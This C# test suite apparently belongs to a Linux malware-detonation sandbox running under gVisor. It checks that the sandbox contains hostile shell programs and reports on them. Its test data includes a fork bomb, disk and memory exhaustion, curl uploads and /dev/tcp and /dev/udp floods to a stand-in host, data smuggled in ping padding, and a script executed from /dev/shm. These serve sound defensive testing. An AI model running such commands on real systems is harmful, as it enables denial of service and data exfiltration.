using Wellguard.Artifacts;
using Wellguard.Events;
using Wellguard.Linux.Detonation;
using Wellguard.Linux.Detonation.Samples;
using Xunit;

namespace Wellguard;

/// <summary>Programs that take all there is, end badly or never: each run has a report that says what happened, and nothing is left of it.</summary>
public abstract class HostileRuns(Engine engine)
{
    private static readonly TimeSpan Short = TimeSpan.FromSeconds(6);

    private protected async Task<Detonated> RunAsync(string command, Func<DetonationOptions, DetonationOptions>? with = null, CancellationToken? cancel = null, Action<string>? files = null)
    {
        var program = Machine.Require(engine);
        var sample = new Sample(new(ArtifactKind.Image, "hostile"), new ImageConfig { Entrypoint = ["/bin/sh", "-c", command] })
        {
            Base = BaseSystem.Shell,
            FillAsync = files is null ? null : (folder, _, _) =>
            {
                files(folder);
                return Task.FromResult(new Supplies([]));
            },
        };
        var options = new DetonationOptions { Program = program, Engine = engine, CacheDirectory = Machine.Work, Settle = Short, Timeout = TimeSpan.FromSeconds(30), HasNetwork = false, Limits = new CellLimits(Memory: 600 << 20, Disk: 64 << 20, Processes: 200) };
        var detonated = await CellRun.RunAsync(sample, with?.Invoke(options) ?? options, cancel ?? TestContext.Current.CancellationToken);
        Assert.Empty(Left());
        return detonated;
    }

    /// <summary>What of cells is on this machine and belongs to nobody: folders, namespaces, control groups, mounts. Another run beside this one holds its lock.</summary>
    private static IEnumerable<string> Left() =>
        ((string[])
        [
            .. Directory.Exists(CellFolder.Root) ? Directory.GetDirectories(CellFolder.Root) : [],
            .. Directory.Exists("/run/netns") ? Directory.GetFiles("/run/netns", "wg*-*") : [],
            .. Directory.Exists("/sys/fs/cgroup") ? Directory.GetDirectories("/sys/fs/cgroup", "wellguard-*", new EnumerationOptions { RecurseSubdirectories = true, MaxRecursionDepth = 2 }) : [],
            .. File.ReadLines("/proc/mounts").Where(line => line.Contains(CellFolder.Root + "/", StringComparison.Ordinal)),
        ]).Where(static left => !IsHeld(left));

    /// <param name="left">Has the eight hex digits of a cell in it.</param>
    private static bool IsHeld(string left)
    {
        var id = System.Text.RegularExpressions.Regex.Match(left, "[0-9a-f]{8}", System.Text.RegularExpressions.RegexOptions.NonBacktracking).Value;
        try
        {
            using var free = new FileStream(Path.Combine(CellFolder.Root, id + ".lock"), FileMode.Open, FileAccess.ReadWrite, FileShare.None);
            return false;
        }
        catch (IOException held)
        {
            return held is not (FileNotFoundException or DirectoryNotFoundException);
        }
    }

    [Theory]
    [InlineData("f(){ f|f& }; f; sleep 20", "took all")]
    [InlineData("dd if=/dev/zero of=/dev/null bs=900M count=1", "took all")]
    [InlineData("dd if=/dev/zero of=/big bs=1M count=300", "more than the 64 MB")]
    [InlineData("while :; do cat /etc/passwd > /dev/null; done", "still active")]
    public async Task Who_takes_everything_is_told(string command, string why)
    {
        var detonated = await RunAsync(command, options => options with { Timeout = TimeSpan.FromSeconds(12) });
        Assert.True(detonated.Shortfalls.Any(shortfall => shortfall.Why.Contains(why, StringComparison.Ordinal)), string.Join("; ", detonated.Shortfalls));
    }

    [Theory]
    [InlineData("true")]
    [InlineData("kill -9 $$")]
    [InlineData("sh -c 'kill -9 $PPID; sleep 1'")]
    [InlineData("setsid sh -c 'sleep 1; echo > /late' & exit 3")]
    public async Task Who_ends_by_itself_is_complete(string command)
    {
        var detonated = await RunAsync(command);
        Assert.Empty(detonated.Shortfalls);
        Assert.Contains(detonated.Events, happened => happened is { Kind: EventKind.Exit, Process: 1 });
    }

    [Fact]
    public async Task A_gigabyte_on_stdout_is_read_and_dropped()
    {
        var detonated = await RunAsync("head -c 1000000000 /dev/zero");
        Assert.False(detonated.Failed);
        Assert.True(detonated.Output.Length <= 16 << 10);
    }

    [Fact]
    public async Task A_server_that_does_nothing_more_is_complete()
    {
        var detonated = await RunAsync("sleep 1000", options => options with { Settle = TimeSpan.FromSeconds(2) });
        Assert.Empty(detonated.Shortfalls);
    }

    [Fact]
    public async Task An_interruption_is_partial_and_leaves_nothing()
    {
        using var soon = new CancellationTokenSource(TimeSpan.FromSeconds(5));
        var detonated = await RunAsync("while :; do cat /etc/passwd > /dev/null; done", cancel: soon.Token);
        Assert.Contains(detonated.Shortfalls, shortfall => shortfall.Why == "interrupted");
    }

    [Fact]
    public async Task What_cannot_start_fails_with_its_reason()
    {
        var detonated = await RunAsync("true", options => options with { Command = ["/no/such/program"] });
        Assert.True(detonated.Failed);
        Assert.Contains("did not start", Assert.Single(detonated.Shortfalls).Why, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_is_built_for_another_machine_fails_with_its_reason()
    {
        var detonated = await RunAsync("true", static options => options with { Command = ["/foreign"] }, files: static folder =>
        {
            var foreign = File.ReadAllBytes("/bin/true");
            foreign[18] = 183;
            File.WriteAllBytes(Path.Combine(folder, "foreign"), foreign);
            File.SetUnixFileMode(Path.Combine(folder, "foreign"), (UnixFileMode)0x1ED);
        });
        Assert.True(detonated.Failed);
        Assert.Contains("built for AArch64", Assert.Single(detonated.Shortfalls).Why, StringComparison.Ordinal);
    }

    /// <summary>All of it is read and searched, or how much was not is told.</summary>
    [Theory]
    [InlineData("head -c 300000000 /dev/zero | curl -s -m 20 -T - http://203.0.113.9/drop", "http://203.0.113.9/drop")]
    [InlineData("bash -c 'for i in {1..4000}; do echo x > /dev/udp/203.0.113.9/$i; done'", "203.0.113.9")]
    [InlineData("bash -c 'for i in {1..2000}; do (echo x > /dev/tcp/203.0.113.9/$i) & [ $((i % 50)) = 0 ] && wait; done 2>/dev/null'", "203.0.113.9")]
    public async Task Who_floods_the_network_ends_with_a_report(string command, string where)
    {
        var detonated = await RunAsync(command + "; exit 0", static options => options with { HasNetwork = true });
        Assert.False(detonated.Failed);
        Assert.Contains(detonated.Events, happened => happened.Object?.Contains(where, StringComparison.Ordinal) is true);
    }

    [Fact]
    public async Task What_is_in_shared_memory_is_among_the_changes()
    {
        var detonated = await RunAsync("printf '#!/bin/sh\\necho ran\\n' > /dev/shm/.x; chmod 755 /dev/shm/.x; /dev/shm/.x");
        Assert.Equal("ran\n", detonated.Output);
        Assert.Equal("755", Assert.Single(detonated.Events, static happened => happened is { Kind: EventKind.Change, Object: "/dev/shm/.x" }).Other);
    }

    [Fact]
    public async Task A_flood_of_pings_is_told()
    {
        var detonated = await RunAsync("ping -q -n -f -c 7000 203.0.113.9 > /dev/null", static options => options with { HasNetwork = true });
        Assert.Contains(detonated.Shortfalls, static shortfall => shortfall.Why.Contains("packets of ICMP were not looked into", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Pings_are_answered_and_what_they_carry_is_told()
    {
        var detonated = await RunAsync("ping -q -n -c 1 -W 3 203.0.113.9 > /dev/null && echo there; ping -q -n -c 1 -W 3 2001:db8::9 > /dev/null && echo there6; ping -q -n -c 1 -W 3 -p 6c6f6f74 203.0.113.10 > /dev/null; exit 0", static options => options with { HasNetwork = true });
        Assert.Equal("there\nthere6\n", detonated.Output);
        Assert.Equal(
            [("icmp://203.0.113.9", "ping"), ("icmp://[2001:db8::9]", "ping"), ("icmp://203.0.113.10", "carries: lootlootlootlootlootlootlootlootlootloot")],
            detonated.Events.Where(static happened => happened is { Kind: EventKind.Send, Other: "icmp" }).Select(static happened => (happened.Object!, happened.Arguments![0])));
    }

    [Fact]
    public async Task No_byte_reaches_a_network_that_is_not_there()
    {
        var detonated = await RunAsync("curl -s -m 2 http://192.0.2.1/ && echo reached; curl -s -m 2 http://example.com/ && echo reached; sed 1,2d /proc/net/dev | grep -v 'lo:\\|eth0:'; exit 0");
        Assert.Equal("", detonated.Output);
        Assert.Contains(detonated.Events, happened => happened is { Kind: EventKind.Connect, Object: "192.0.2.1:80" });
    }
}

/// <summary>Under gVisor.</summary>
[Collection("cells, one after the other")]
public sealed class HostileRunTests() : HostileRuns(Engine.Gvisor);
